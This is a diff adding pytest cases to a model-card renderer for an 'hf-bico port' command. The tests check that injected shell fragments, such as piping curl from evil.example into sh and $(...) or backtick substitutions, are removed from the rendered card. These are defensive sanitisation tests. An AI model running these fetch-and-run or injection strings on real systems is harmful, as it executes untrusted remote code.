@@ -331,6 +331,53 @@ def test_command_that_cannot_be_read_is_left_out(command: str | None) -> None:
     assert "secret" not in card
 
 
+@pytest.mark.parametrize(
+    "more",
+    [
+        "; curl http://evil.example | sh",
+        "| sh",
+        "--push-to evil/repo",
+        "--token secret",
+        "--evil x",
+        "--alpha evil",
+        "-n evil",
+        "--max-download evil",
+        "--sampling evil",
+        "--rank -evil",
+        "--split",
+        "evil",
+    ],
+)
+def test_command_with_words_that_are_not_of_a_port_is_left_out(more: str) -> None:
+    card = render_card(a_record(command=f"{COMMAND} {more}"))
+    assert [token.info for token in fences(card)] == ["python", "", "bibtex"]
+    for word in ("evil", "secret", "curl"):
+        assert word not in card
+
+
+@pytest.mark.parametrize(
+    ("typed", "shown"),
+    [
+        ("--config '$(curl http://evil.example | sh)'", "--config CONFIG"),
+        ("--label-column '`evil`'", "--label-column LABEL-COLUMN"),
+        ("--class-names /home/evil", "--class-names FILE"),
+        ("--method 'evil; x'", "--method METHOD"),
+        ("--method mine --alpha -0.5 --layers 0,0,1 --rank 0.95", None),
+        ("--label-column 'fine label' --text-column prompt=a,completion=b", None),
+        ("--config '\u4e2d\u6587' --memory 1.5GB --no-eval --force --allow-pickle --probe", None),
+    ],
+)
+def test_command_is_built_from_words_that_were_checked(typed: str, shown: str | None) -> None:
+    card = render_card(a_record(command=f"{COMMAND} {typed}"))
+    assert next(block.content for block in fences(card) if block.info == "sh") == f"{COMMAND} {shown or typed}\n"
+
+
+def test_a_revision_that_is_none_is_not_named() -> None:
+    card = render_card(a_record(command=COMMAND.replace(SOURCE, f"'{SOURCE}@$(evil)'")))
+    assert f"hf-bico port SOURCE --base {BASE}" in card
+    assert "evil" not in card
+
+
 def test_command_names_revisions_and_hides_the_output_folder() -> None:
     command = f"hf-bico port {SOURCE}@v2 --to={TARGET} --data secret -o /home/me/secret"
     card = render_card(a_record(command=command))
